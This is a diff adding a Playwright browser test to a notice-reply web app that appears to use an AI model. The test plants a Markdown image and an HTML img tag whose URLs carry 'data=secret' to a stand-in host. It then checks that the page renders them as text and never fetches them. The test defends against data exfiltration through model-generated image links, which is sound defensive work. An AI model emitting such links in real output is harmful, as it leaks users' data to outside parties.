@@ -120,3 +120,30 @@ def test_draft_download_and_reload_in_chromium(app_url, tmp_path):
         page.get_by_role("button", name="Download .docx").wait_for(timeout=60_000)
         page.screenshot(path=ARTIFACTS / "4-after-reload.png", full_page=True)
         browser.close()
+
+
+@pytest.mark.browser
+def test_no_request_leaves_for_an_image_in_seller_or_notice_text(app_url):
+    """A manipulated notice or story with Markdown images and HTML: the browser shows the text
+    and never asks for the image (a model could leak data in such a URL)."""
+    from playwright.sync_api import sync_playwright
+
+    image = "![pixel](http://127.0.0.1:9/leak.png?data=secret)"
+    html = '<img src="http://127.0.0.1:9/leak2.png">'
+    notice = CASE.notice.replace("Hello,", f"Hello, {image} {html}", 1)
+    requested: list[str] = []
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=CHROMIUM, headless=True, args=["--no-sandbox", "--disable-gpu"]
+        )
+        page = browser.new_page(viewport={"width": 1400, "height": 1000})
+        page.on("request", lambda request: requested.append(request.url))
+        page.goto(app_url)
+        page.get_by_text("Paste the notice you received").wait_for(timeout=60_000)
+        _send(page, notice)
+        _send(page, f"{CASE.story} {image} {html}")
+        page.get_by_text("leak.png").first.wait_for(timeout=30_000)  # shown, as text
+        images = page.evaluate("[...document.images].map(i => i.src)")
+        browser.close()
+    assert not [url for url in requested if "leak" in url]
+    assert not [src for src in images if "leak" in src]
